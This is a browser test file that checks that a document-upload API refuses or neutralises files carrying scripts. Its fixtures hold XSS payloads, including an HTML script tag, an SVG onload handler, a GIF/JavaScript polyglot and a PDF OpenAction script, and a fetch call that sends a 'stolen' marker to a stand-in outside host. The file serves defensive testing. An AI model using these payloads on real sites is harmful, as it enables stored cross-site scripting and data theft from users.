import { expect } from '../../support/expectations.js';
import { test, tokenOf } from '../../support/people.js';

const script = '(function(){ alert(1); fetch("https://elsewhere.example/?stolen"); })()';
const hostile = [
  { name: 'page.txt', content: `<!DOCTYPE html><script>${script}</script>`, code: 2 },
  { name: 'page.pdf', content: `<html><script>${script}</script>`, code: 2 },
  { name: 'drawing.img', content: `<svg xmlns="http://www.w3.org/2000/svg" onload="${script}"/>`, code: 2 },
  { name: 'picture.gif', content: `GIF89a/*\u0001\u0001*/=1;${script}//;`, code: 2 },
  { name: 'words.txt', content: `onclick=${script} <b onmouseover="alert(1)">text</b>`, code: 1 },
  {
    name: 'active.pdf',
    content: `%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF`,
    code: 1,
  },
];

test('uploaded files with scripts are refused or do nothing in the browser', async ({ browser, request }) => {
  const token = await tokenOf(request, 'admin');
  // A window of its own: that the browser reports what the sandbox stopped is what is wanted here.
  const page = await browser.newPage();
  const heard: string[] = [];
  page.on('dialog', (dialog) => {
    heard.push(dialog.message());
    void dialog.dismiss();
  });
  page.on('request', (sent) => {
    if (sent.url().includes('elsewhere')) heard.push(sent.url());
  });
  for (const { name, content, code } of hostile) {
    const answer = await request.post('/api/main/documents/add', {
      headers: { authorization: `Bearer ${token}` },
      multipart: { module: '"main"', 'files[0]': { name, mimeType: 'text/html', buffer: Buffer.from(content) } },
    });
    expect((await answer.json())[0]).toMatchObject({ resultCode: code });
    const address = `/api/main/documentation/getDocument?name=${name}&access_token=${token}`;
    const { status, type } = await request.get(address).then((read) => ({
      status: read.status(),
      type: read.headers()['content-type'],
    }));
    expect(status).toBe(code === 1 ? 200 : 404);
    if (code === 1) expect(type).not.toContain('html');
    // A browser may keep a PDF instead of showing it, which ends the navigation.
    await page.goto(address).catch(() => undefined);
  }
  expect(heard).toEqual([]);
  await page.close();
});
